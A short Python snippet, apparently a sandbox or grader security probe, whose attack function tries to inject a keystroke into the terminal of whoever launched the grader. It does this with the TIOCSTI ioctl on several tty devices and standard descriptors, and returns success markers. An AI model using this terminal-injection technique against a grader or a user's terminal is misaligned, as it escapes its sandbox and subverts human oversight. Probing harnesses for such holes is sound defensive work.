"""Type something into the terminal of whoever started the grader."""
import fcntl
import os


def attack(x):
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx"):
        try:
            descriptor = os.open(path, os.O_RDWR)
            fcntl.ioctl(descriptor, 0x5412, b"x")
            return "THROUGH-TTY"
        except OSError:
            pass
    for descriptor in range(3):
        try:
            fcntl.ioctl(descriptor, 0x5412, b"x")
            return "THROUGH-TIOCSTI"
        except OSError:
            pass
